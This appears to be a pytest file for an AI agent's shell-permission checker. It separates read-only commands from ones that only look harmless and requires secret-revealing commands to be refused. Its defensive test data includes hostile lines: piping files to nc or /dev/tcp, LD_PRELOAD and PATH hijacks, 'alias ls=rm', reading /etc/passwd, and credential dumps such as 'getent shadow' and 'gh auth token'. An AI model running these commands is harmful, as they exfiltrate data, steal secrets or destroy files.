"""Which commands are known to change nothing, and which only look like it."""

from __future__ import annotations

import time

import pytest

from tests.unit.permissions.permission_house import House

FREE = r"""
jq -r '.scripts | to_entries[] | "\(.key): \(.value.x)\n\"\(.)\""' package.json
git log main --not origin/main
git log --oneline -- src ':(exclude)*.lock'
git diff-tree --no-commit-id --name-only -r HEAD
git rev-parse --git-common-dir
git branch -v --no-abbrev
for f in *.py; do wc -l "$f"; done
LC_ALL=C sort a.py
if [ -f a.py ]; then cat a.py; fi
! grep -q x a.py || ls
for d in src; do for f in 1 2; do echo "$d/$f: \"x\""; done; done | sort
cd src; ls
ls --help
jq '.[] | {name, version}' package.json
awk '{print NR": "$0}' a.py
awk '{print length, length($1) / 2}' a.py
jq '{a: (if .x then 1 else 2 end), b}' package.json
sed 's/[[:space:]]*$//' a.py
git status
git status --short
git log --oneline -n 5
git diff HEAD~1 -- a.py
git -C src status
git --no-pager log
git branch
git branch -a
git branch --show-current
git tag
git remote -v
git config --get user.name
git stash list
git show HEAD:a.py
git blame a.py
ls -la
ls -la | head -3
cat a.py notes.txt
cat src/*.py
head -n 3 a.py
grep -rn 'x = 1' src
rg -n x src
find . -name '*.py' -type f
find . -maxdepth 2 | wc -l
sort notes.txt | uniq -c
sed -n 1,5p a.py
sed -n '/def/p' a.py
sed 's/a/b/g' a.py
awk '{print $1}' a.py
awk '{c[$1]++} END {for (k in c) print k, c[k]}' a.py
awk '!seen[$0]++' a.py
awk 'BEGIN {FS=","; OFS="\t"} {printf "%s %d\n", $1, $2}' a.py
timeout 5 git status
which git ls
cat /proc/meminfo
awk -F: '{print $2}' a.py
wc -l a.py 2>/dev/null
cd src && ls
ls; pwd; date +%F
test -f a.py && echo yes
[ -d src ] || echo no
python3 --version
diff a.py src/b.py
ps aux
du -sh .
cat < a.py
git log 2>&1 | head
true
"""

NOT_FREE = r"""
jq -r '"\(env)"' package.json
jq -r '"\(.a[env])"' package.json
jq -r '"\(.a|env)"' package.json
jq -r '"\\(env)" , "\\", env' package.json
git diff-tree --stdin
git diff-tree --no-index a.py b.py
git diff-tree -p --ext-diff HEAD
git diff -- . ':(exclude,top)*.lock' ':(top)x'
for f in *.py; do wc -l "$f"; done > out
for o in -exec; do find . $o touch x +; done
for f in /etc/*; do echo x; done
if ls; then touch x; fi
if true; then cat; fi < /etc/passwd
LC_ALL=C x=1 ls
jq -n '{a: env, b}'
jq '{a: .x | env, b}' package.json
awk '{print "a"$1 > "x"}' a.py
awk '{print length /"/ > "s" length /"/ 1}' a.py
awk '{print $1, length/"/ > "s" length /"/ 1}' a.py
jq '{a: if . then 1, env, 2 else 3 end}' package.json
jq '{a: if . then 1, env else 2 end}' package.json
jq '{a: [{end: 1}, env, 2]}' package.json
jq '{if: 1}, env, 2' package.json
sed 's/[[:space:]/]x/w out' a.py
[[ -f a.py ]]
x=1; echo $x
echo "$(git rev-parse HEAD)"
timeout 5 git push
timeout 5 sh -c ls
git -c core.pager=x status
git -c core.fsmonitor=x status
git --exec-path=x status
git --git-dir=/tmp/x status
git diff --output=x
git log --output=x
git diff --ext-diff
git diff --textconv
git grep -O x
git grep --open-files-in-pager=vi x
git branch new
git branch -D x
git branch -m a b
git branch --edit-description
git tag v1
git tag -d v1
git remote add x y
git remote update
git config user.name x
git stash
git reflog expire --all
git fetch
git checkout a.py
git status > x
git status >> x
git log | tee x
git help status
ls > x
ls >| x
ls &> x
cat a.py > b.py
echo x > a.py
find . -delete
find . -exec ls {} \;
find . -execdir ls {} +
find . -ok ls {} \;
find . -fprint x
find . -fprintf x %p
find . -fls x
sort -o a.py a.py
sort --output=x a.py
sort --outp=x a.py
sort -ro x a.py
sort --compress-program=x a.py
sed -i s/a/b/ a.py
sed --in-place s/a/b/ a.py
sed -ni p a.py
sed 'w x' a.py
sed 's/a/b/w x' a.py
sed 's/a/b/e' a.py
sed '1e ls' a.py
sed -f script a.py
awk 'BEGIN{system("x")}' a.py
awk '{print > "x"}' a.py
awk '{printf "%s", $1 > "x"}' a.py
awk '{printf "%s", $1 | "sh"}' a.py
awk '{print c[$1] > "x"}' a.py
awk '{c[1] > "x"}' a.py
awk '{print c("id")}' a.py
awk 'BEGIN {FS=ENVIRON["X"]; print FS}' a.py
awk '{print | "sh"}' a.py
awk -f script a.py
awk -i inplace '{print}' a.py
uniq a.py b.py
xxd -r a b
xxd a b
tree -o x
rg --pre x y
rg --hostname-bin x y
date -s 2020-01-01
date 010100002020
hostname newname
PATH=. ls
LD_PRELOAD=x ls
GIT_EXTERNAL_DIFF=x git diff
GIT_SSH=x git status
PAGER=x git log
IFS=x; ls
PATH=.; ls
BASH_ENV=x true
export PATH=.
alias ls=rm
ls() { rm x; }; ls
eval ls
bash -c ls
sh script
./ls
/tmp/ls
~/bin/ls
src/git status
env ls
xargs cat < a.py
nohup ./x
source x
ls | sh
ls | xargs rm
echo $(rm x)
echo `rm x`
cat <(rm x)
ls & rm x
if true; then rm x; fi
file -C -m x
printf -v PATH x
pip list --log x
npm ls --prefix /tmp/x
journalctl --vacuum-time=1s
journalctl --cursor-file=x
ip link set lo down
dmesg -C
systemctl restart x
docker run x
tee x
touch x
mkdir x
cp a b
curl http://x.example
wget http://x.example
python3 -c 'print(1)'
python3 x.py
make
echo x > /dev/tcp/1.2.3.4/80
cat a.py | nc host 80
git -C
$(which git) status
"$GIT" status
ls 'unclosed
if ls
git log -O/tmp/x
shuf -o x a
"""


def lines(text: str) -> list[str]:
    return text.strip("\n").split("\n")


@pytest.mark.parametrize("command", lines(FREE))
def test_reading_is_free_even_in_plan_mode(house: House, command: str) -> None:
    assert house.bash(command, "plan").verdict == "allow", house.bash(command, "plan")


@pytest.mark.parametrize("command", lines(NOT_FREE))
def test_what_only_looks_like_reading_is_not_free(house: House, command: str) -> None:
    assert house.bash(command, "default").verdict != "allow"
    assert house.bash(command, "plan").verdict != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "getent shadow",
        "gh auth token",
        "git credential fill",
        "ps auxe",
        "ps eww",
        "gcore 1",
        "gdb -p 1",
        "secret-tool lookup a b",
        "kubectl get secrets -o yaml",
    ],
)
def test_commands_made_to_show_secrets_are_refused_in_every_mode(
    house: House, command: str
) -> None:
    assert house.bash(command, "full_auto", allow=["Bash"]).layer == "sensitive"
    assert house.bash(command, "full_auto", allow=["Bash"]).verdict == "deny"


def test_more_wildcards_than_can_be_looked_up_are_asked_about(house: House) -> None:
    assert (
        house.bash(
            "ls " + " ".join(f"*{number}" for number in range(2000)), "full_auto", allow=["Bash"]
        ).verdict
        == "ask"
    )


def test_redirections_are_reads_and_writes(house: House) -> None:
    script = house.shell.parse("sort < in.txt > out.txt 2>> log.txt", house.work)
    assert script.reads == (house.work / "in.txt",)
    assert script.writes == (house.work / "out.txt", house.work / "log.txt")


def test_an_unreadable_command_is_asked_about_and_says_so(house: House) -> None:
    ruling = house.bash("ls 'unclosed", "full_auto")
    assert (ruling.verdict, ruling.layer) == ("ask", "shell")
    assert "grammar" in ruling.reason


def test_five_thousand_commands_are_judged_without_a_noticeable_wait(house: House) -> None:
    command = ";".join(f"echo {number} word{number}" for number in range(5000))
    start = time.process_time()
    assert house.bash(command, "default", deny=["Bash(rm:*)"]).verdict == "ask"
    assert house.bash(command, "full_auto", deny=["Bash(rm:*)"]).verdict == "allow"
    # 0.2 s on an idle core; the bound only catches what grows faster than the command
    assert time.process_time() - start < 5.0


@pytest.mark.parametrize(
    "command",
    [
        "$(" * 3000 + "ls" + ")" * 3000,
        '"$(' * 500 + "ls" + ')"' * 500,
        "(" * 3000 + "ls" + ")" * 3000,
        "cat " + "{" * 3000 + "a,b" + "}" * 3000,
        "x=( " * 20_000,
        "a|" * 40_000 + "a",
        "<<a " * 20_000,
    ],
    ids=["substitutions", "quoted", "subshells", "braces", "arrays", "pipes", "documents"],
)
def test_nesting_without_end_is_asked_about(house: House, command: str) -> None:
    assert house.bash(command, "full_auto").verdict == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "cat " + "{a,b}" * 30,
        "a=xy;" + "a=$a$a;" * 60 + "echo $a",
        "for x in a b; do " * 40 + "echo $x" + "; done" * 40,
        "cd a;" * 3000 + "cat b",
        "cat " + "*/" * 40,
        "awk '{print " + '"a"' * 150 + "'",
        "awk '{NR" + "\n" * 490 + "'",
        "python3 -c '" + '"' + "<" * 60_000 + "'",
        "for x in " + "a " * 400 + "; do for y in *; do touch $x; done; done",
    ],
    ids=["braces", "doubling", "loops", "folders", "stars", "awk", "blanks", "quotes", "words"],
)
def test_what_grows_without_end_is_bounded(house: House, command: str) -> None:
    start = time.process_time()
    house.bash(command, "full_auto")
    assert time.process_time() - start < 10


def test_an_empty_word_of_what_counts_is_no_flag(house: House) -> None:
    assert house.bash("echo $(ls | wc '')").verdict == "ask"
